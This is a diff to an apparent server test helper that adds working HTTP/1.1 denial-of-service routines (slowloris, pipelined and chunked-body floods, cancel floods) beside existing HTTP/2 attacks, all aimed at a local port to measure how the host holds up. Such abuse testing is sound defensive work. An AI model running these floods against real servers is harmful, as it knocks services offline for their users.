@@ -1,4 +1,5 @@
-"""HTTP/2 attacks written frame by frame, for tests/test_abuse.py and for measuring by hand:
+"""HTTP/2 attacks written frame by frame, and HTTP/1.1 ones on the same port (h2c: the door
+serves what is not HTTP/2), for tests/test_abuse.py and for measuring by hand:
 
     /usr/bin/python3 tests/h2attack.py ATTACK PORT [--seconds S] [--scale F] [--tls]
 
@@ -10,6 +11,7 @@ sent and how the host answered. --scale shrinks the counts (the ASan build is sl
 
 import argparse
 import json
+import re
 import resource
 import select
 import socket
@@ -395,10 +397,114 @@ def window_overflow(port, until, scale, tls):
                       frame(WINDOW_UPDATE, 0, 1, big) * 2 + frame(WINDOW_UPDATE, 0, 0, big) * 2)
 
 
+# --- HTTP/1.1 on the same port (the door) ----------------------------------------------------
+
+def http1_request(path=b"/helloworld.Greeter/SayHello", body=b'{"name": "abuse"}'):
+    return (b"POST %s HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
+            b"content-length: %d\r\n\r\n" % (path, len(body))) + body
+
+
+class Http1Wire(Wire):
+    """A Wire for HTTP/1.1: what the host sends is kept (its first 64 KiB), not read as frames."""
+
+    def __init__(self, port):
+        super().__init__(port, ack=False)
+        self.text = b""
+
+    def _parse(self):
+        self.text += bytes(self.inbuf[:max(0, 65536 - len(self.text))])
+        self.inbuf.clear()
+        return 0
+
+    def count_statuses(self, counts):
+        for status in re.findall(rb"HTTP/1\.1 (\d{3}) ", self.text):
+            counts[status.decode()] = counts.get(status.decode(), 0) + 1
+
+
+def http1_slowloris(port, until, scale, tls):
+    """Connections that send a request's head a byte at a time, all held together: a request
+    line, then a header that never ends, a byte per connection every half second."""
+    count = max(50, int(400 * scale))
+    raise_fd_limit(count + 64)
+    held, refused, statuses = [], 0, {}
+    try:
+        while len(held) + refused < count and time.monotonic() < until:
+            try:
+                w = Http1Wire(port)
+            except OSError:
+                refused += 1
+                continue
+            w.send(b"POST /helloworld.Greeter/SayHello HTTP/1.1\r\nx-slow: ", until)
+            held.append(w)
+        while time.monotonic() < until and not all(w.closed for w in held):
+            for w in held:
+                if not w.closed:
+                    w.send(b"a", until)
+            time.sleep(max(0.0, min(0.5, until - time.monotonic())))   # the attack's pace
+        for w in held:
+            w.pump()
+            w.count_statuses(statuses)
+        return {"connections": len(held), "refused": refused, "closed_by_host": sum(w.closed for w in held),
+                "statuses": statuses}
+    finally:
+        for w in held:
+            w.close()
+
+
+def http1_flood(port, until, connections_max, head, burst):
+    """head, then burst after burst on a connection until the host closes it, then another;
+    how many connections, the bytes sent and the statuses answered."""
+    connections, sent, statuses = 0, 0, {}
+    while time.monotonic() < until and connections < connections_max:
+        w = Http1Wire(port)
+        connections += 1
+        sent += w.send(head, until)
+        while not w.closed and time.monotonic() < until:
+            sent += w.send(burst, until)
+        w.count_statuses(statuses)
+        w.close()
+    return {"connections": connections, "bytes": sent, "statuses": statuses}
+
+
+def http1_pipeline_flood(port, until, scale, tls):
+    """Pipelined requests, a thousand a write, as fast as the host takes them; a new connection
+    when it closes one (it answers the first request and closes: pipelining is refused)."""
+    return http1_flood(port, until, max(10, int(500 * scale)), b"", http1_request() * 1000)
+
+
+def http1_chunked_flood(port, until, scale, tls):
+    """A chunked request body that never ends, 16 KiB chunks as fast as the host takes them; a
+    new connection when it closes one (past --max-message-bytes it answers 413)."""
+    head = (b"POST /helloworld.Greeter/SayHello HTTP/1.1\r\nhost: 127.0.0.1\r\n"
+            b"content-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n")
+    return http1_flood(port, until, max(5, int(200 * scale)), head, (b"4000\r\n" + b"a" * 16384 + b"\r\n") * 64)
+
+
+def http1_cancel_flood(port, until, scale, tls):
+    """What a page that aborts its fetches does: a call that runs until cancelled (the server
+    stream of hosttest.Test/SleepForever, as Connect), on a connection of its own, closed as
+    soon as its reply began; connection after connection."""
+    body = b'{"tag": "http1-cancel"}'
+    request = (b"POST /hosttest.Test/SleepForever HTTP/1.1\r\nhost: 127.0.0.1\r\n"
+               b"content-type: application/connect+json\r\ncontent-length: %d\r\n\r\n" % (5 + len(body))
+               + struct.pack(">BI", 0, len(body)) + body)
+    requests, begun = 0, 0
+    while time.monotonic() < until and requests < max(100, int(2000 * scale)):
+        with socket.create_connection(("127.0.0.1", port), timeout=CONNECT_TIMEOUT) as s:
+            s.sendall(request)
+            requests += 1
+            try:
+                begun += s.recv(4096).startswith(b"HTTP/1.1 200 ")
+            except OSError:
+                pass
+    return {"requests": requests, "begun": begun}
+
+
 ATTACKS = {f.__name__: f for f in (
     rapid_reset, continuation_flood, ping_flood, settings_flood, idle_connections,
     zero_window_streams, huge_headers, no_preface, bad_preface, even_stream, data_over_window,
-    window_overflow, goaway_storm)}
+    window_overflow, goaway_storm, http1_slowloris, http1_pipeline_flood, http1_chunked_flood,
+    http1_cancel_flood)}
 
 
 def run(name, port, seconds, scale=1.0, tls=False):
